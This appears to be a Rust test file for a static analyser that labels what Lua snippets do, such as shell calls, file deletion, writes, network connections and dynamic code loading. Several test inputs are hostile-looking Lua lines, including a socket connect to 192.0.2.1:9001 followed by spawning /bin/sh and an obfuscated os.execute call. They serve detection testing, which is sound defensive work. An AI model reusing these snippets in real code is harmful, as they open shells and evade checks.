//! Texts of Lua.

use crate::table::{check, lines};
use checkrein_code::Language;

#[test]
fn acts_and_mentions() {
    check(
        Language::Lua,
        &[
            ("os.execute('ls ' .. os.getenv('HOME'))", &["shell ls «home»"]),
            ("os.execute 'ls'", &["shell ls"]),
            ("dofile('job.lua')", &["run lua | job.lua"]),
            ("os.execute[[ls]]", &["shell ls"]),
            ("local o = os; o['exe' .. 'cute']('ls')", &["shell ls"]),
            (
                "local p = io.popen('ls'); os.remove('/x'); os.rename('a', 'b')",
                &["shell ls", "delete /x", "move a | b"],
            ),
            ("local f = io.open('/x', 'w') f:write('y') f:close()", &["write /x", "fill /x : y"]),
            (
                "local t = require('socket').tcp(); t:connect('192.0.2.1', 9001); io.popen('/bin/sh')",
                &["connect 192.0.2.1:9001", "shell /bin/sh"],
            ),
            ("load('os.execute([[ls]])')()", &["shell ls"]),
            ("loadstring(x)()", &["evaluate unknown"]),
        ],
    );
    for source in [
        "print('os.execute(1)') -- os.execute('x')",
        "--[[ os.execute('x') ]] print(1)",
        "print([[os.execute('x')]])",
    ] {
        assert_eq!(lines(Language::Lua, source), [""; 0], "{source}");
    }
}
